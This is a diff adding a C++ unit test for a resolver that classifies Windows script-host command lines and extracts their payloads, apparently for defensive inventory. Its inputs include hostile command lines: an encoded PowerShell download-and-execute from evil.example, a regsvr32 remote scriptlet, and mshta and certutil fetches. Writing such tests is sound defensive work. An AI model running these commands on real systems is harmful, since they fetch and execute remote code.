@@ -134,6 +134,67 @@ TEST_F(ResolveTest, HostFormsGiveTheProgramTheyRun) {
     EXPECT_EQ(Resolve("cmd.exe /q").program, R"(C:\WINDOWS\system32\cmd.exe)");
 }
 
+TEST_F(ResolveTest, ScriptHostsGiveTheScriptTheyRunOrWhatTheyAreGivenInstead) {
+    const std::string ps = R"(C:\WINDOWS\system32\WindowsPowerShell\v1.0\powershell.exe)";
+    for (const char* host : {"WindowsPowerShell\\v1.0\\powershell.exe", "mshta.exe", "wscript.exe", "regsvr32.exe",
+                             "msiexec.exe", "conhost.exe", "schtasks.exe", "forfiles.exe", "certutil.exe"})
+        files_.AddFile(std::string(R"(C:\WINDOWS\system32\)") + host);
+    files_.AddFile(R"(C:\Users\ann\AppData\Roaming\x.vbs)");
+    files_.AddFile(R"(C:\Temp\s.ps1)");
+    files_.AddFile(R"(C:\Temp\a b\x.exe)");
+
+    // An encoded command is decoded (base64 of UTF-16LE); the program judged is the host.
+    ResolvedCommand encoded = Resolve(
+        "powershell -w hidden -enc "
+        "aQBlAHgAIAAoAGkAdwByACAAaAB0AHQAcAA6AC8ALwBlAHYAaQBsAC4AZQB4AGEAbQBwAGwAZQAvAGEAKQA=");
+    EXPECT_EQ(encoded.payload, HostPayload::Encoded);
+    EXPECT_EQ(encoded.payloadText, "iex (iwr http://evil.example/a)");
+    EXPECT_EQ(encoded.program, ps);
+    EXPECT_EQ(encoded.hosts, Args{ps});
+    EXPECT_EQ(ScriptOrProgram(encoded), "");
+    EXPECT_EQ(Resolve("powershell.exe -NoP -EncodedCommand !!").payloadText, "(not decodable) !!");
+    // Inline script, a script file, an address.
+    ResolvedCommand inlined = Resolve(R"x(mshta "javascript:a=new ActiveXObject('WScript.Shell');close()")x");
+    EXPECT_EQ(inlined.payload, HostPayload::Inline);
+    EXPECT_EQ(inlined.program, R"(C:\WINDOWS\system32\mshta.exe)");
+    EXPECT_EQ(Resolve("powershell -nop -c Get-Date").payload, HostPayload::Inline);
+    EXPECT_EQ(Resolve("powershell").payload, HostPayload::Inline);
+    ResolvedCommand script = Resolve(R"(wscript //B //nologo %APPDATA%\x.vbs arg)");
+    EXPECT_EQ(script.payload, HostPayload::Program);
+    EXPECT_EQ(script.program, R"(C:\Users\ann\AppData\Roaming\x.vbs)");
+    EXPECT_EQ(script.arguments, "arg");
+    EXPECT_TRUE(script.exists);
+    EXPECT_EQ(script.host, R"(C:\WINDOWS\system32\wscript.exe)");
+    EXPECT_EQ(ScriptOrProgram(script), R"(C:\Users\ann\AppData\Roaming\x.vbs)");
+    EXPECT_EQ(Resolve(R"(powershell -ExecutionPolicy Bypass -File C:\Temp\s.ps1 -x)").program, R"(C:\Temp\s.ps1)");
+    ResolvedCommand url = Resolve("regsvr32 /s /n /u /i:http://evil.example/a.sct scrobj.dll");
+    EXPECT_EQ(url.payload, HostPayload::Url);
+    EXPECT_EQ(url.payloadText, "http://evil.example/a.sct");
+    EXPECT_EQ(Resolve("mshta https://evil.example/a.hta").payload, HostPayload::Url);
+    EXPECT_EQ(Resolve("certutil -urlcache -f http://evil.example/a a.exe").payload, HostPayload::Url);
+    EXPECT_EQ(Resolve("rundll32 javascript:\"\\..\\mshtml,RunHTMLApplication \";alert(1)").payload,
+              HostPayload::Inline);
+    EXPECT_EQ(Resolve(R"(msiexec /i C:\Temp\p.msi /qn)").program, R"(C:\Temp\p.msi)");
+    // A script file on a share stays a path, for the inventory to refuse.
+    EXPECT_EQ(Resolve(R"(wscript \\server\share\x.vbs)").program, R"(\\server\share\x.vbs)");
+
+    // Hosts inside hosts: each is recorded, the innermost decides.
+    ResolvedCommand nested = Resolve(R"(conhost --headless cmd /c powershell -enc aQBlAHgA)");
+    EXPECT_EQ(nested.hosts, (Args{R"(C:\WINDOWS\system32\conhost.exe)", R"(C:\WINDOWS\system32\cmd.exe)", ps}));
+    EXPECT_EQ(nested.payload, HostPayload::Encoded);
+    EXPECT_EQ(nested.payloadText, "iex");
+    EXPECT_EQ(Resolve(R"(schtasks /create /tn x /tr "C:\Temp\a b\x.exe" /sc once)").program, R"(C:\Temp\a b\x.exe)");
+    EXPECT_EQ(Resolve(R"(forfiles /p C:\ /m x /c "cmd /c C:\Temp\s.ps1")").program, R"(C:\Temp\s.ps1)");
+    // More than one command on cmd's line is script.
+    EXPECT_EQ(Resolve(R"(cmd /c C:\Temp\s.ps1 & del x)").payload, HostPayload::Inline);
+
+    EXPECT_TRUE(IsScriptHost(R"(C:\x\PWSH.EXE)"));
+    EXPECT_TRUE(IsScriptHost("bitsadmin"));
+    EXPECT_FALSE(IsScriptHost(R"(C:\x\notepad.exe)"));
+    // An ordinary program is its own script.
+    EXPECT_EQ(ScriptOrProgram(Resolve("notepad.exe x.txt")), R"(C:\WINDOWS\system32\notepad.exe)");
+}
+
 TEST_F(ResolveTest, HostileInputIsRefusedOrResolvedNeverThrown) {
     EXPECT_EQ(Resolve("").problem, "no program");
     EXPECT_EQ(Resolve(std::string(200000, 'a')).problem, "command too long");
